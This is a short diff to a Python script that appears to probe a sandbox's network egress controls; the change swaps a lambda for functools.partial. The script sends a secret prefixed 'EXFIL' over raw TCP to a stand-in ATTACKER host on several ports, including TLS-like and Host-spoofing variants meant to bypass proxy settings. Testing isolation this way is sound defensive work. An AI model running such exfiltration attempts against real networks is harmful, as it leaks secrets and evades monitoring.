@@ -1,4 +1,5 @@
 """Direct TCP to an IP address, bypassing the proxy variables: v4 on several ports and v6."""
+import functools
 import socket
 import sys
 
@@ -6,8 +7,8 @@ from _common import ATTACKER, ATTACKER6, attempt, report, tcp_exchange
 
 SECRET = sys.argv[1].encode() if len(sys.argv) > 1 else b"secret"
 for port in (9999, 8080):
-    attempt(f"tcp4:{port}", lambda p=port: tcp_exchange(socket.AF_INET, (ATTACKER, p),
-                                                        b"EXFIL " + SECRET + b"\n"))
+    attempt(f"tcp4:{port}", functools.partial(tcp_exchange, socket.AF_INET, (ATTACKER, port),
+                                              b"EXFIL " + SECRET + b"\n"))
 attempt("tcp4:443-tls-like", lambda: tcp_exchange(socket.AF_INET, (ATTACKER, 443),
                                                   b"\x16\x03\x01\x00\x05hello" + SECRET))
 attempt("tcp4:80-host-spoof", lambda: tcp_exchange(
